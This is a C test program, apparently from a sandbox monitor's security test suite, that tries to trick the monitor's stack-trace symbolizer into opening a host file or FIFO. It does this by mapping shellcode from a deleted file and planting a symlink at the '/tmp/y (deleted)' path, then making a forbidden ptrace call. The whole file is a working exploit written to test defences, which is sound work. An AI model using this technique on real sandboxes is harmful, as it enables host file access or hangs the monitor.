// Monitor attack testcase: tries to make the stack-trace symbolizer open a host file of its choosing.
// Usage: mon_mapattack TARGET
//   Writes a tiny code blob to /tmp/y, maps it PROT_READ|PROT_EXEC, unlinks it (its /proc/PID/maps line now reads
//   "/tmp/y (deleted)"), plants a symlink "/tmp/y (deleted)" -> TARGET (a host path: a FIFO, or a host file), prints
//   "planted", then calls the blob, which makes the forbidden syscall ptrace from inside that mapping, so frame #0 of
//   the violation's stack trace lies in it. A symbolizer that opens the mapping's path through /proc/PID/root follows
//   the symlink to TARGET on the host (and blocks forever on a FIFO).
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) { fprintf(stderr, "usage: mon_mapattack TARGET\n"); return 2; }
    // mov eax, 101 (ptrace); xor edi, edi; xor esi, esi; xor edx, edx; xor r10d, r10d; syscall; ret
    static const unsigned char code[] = { 0xb8, 101, 0, 0, 0, 0x31, 0xff, 0x31, 0xf6, 0x31, 0xd2, 0x45, 0x31, 0xd2, 0x0f, 0x05, 0xc3 };
    int fd = open("/tmp/y", O_RDWR | O_CREAT | O_TRUNC, 0700);
    if (fd < 0) { perror("open /tmp/y"); return 3; }
    if (write(fd, code, sizeof code) != (ssize_t)sizeof code) { perror("write"); return 3; }
    void *p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    if (p == MAP_FAILED) { perror("mmap"); return 3; }
    close(fd);
    if (unlink("/tmp/y") != 0) { perror("unlink"); return 3; }
    if (symlink(argv[1], "/tmp/y (deleted)") != 0) { perror("symlink"); return 3; }
    printf("planted\n");
    long rc = ((long (*)(void))p)();
    printf("survived %ld\n", rc);
    return 0;
}
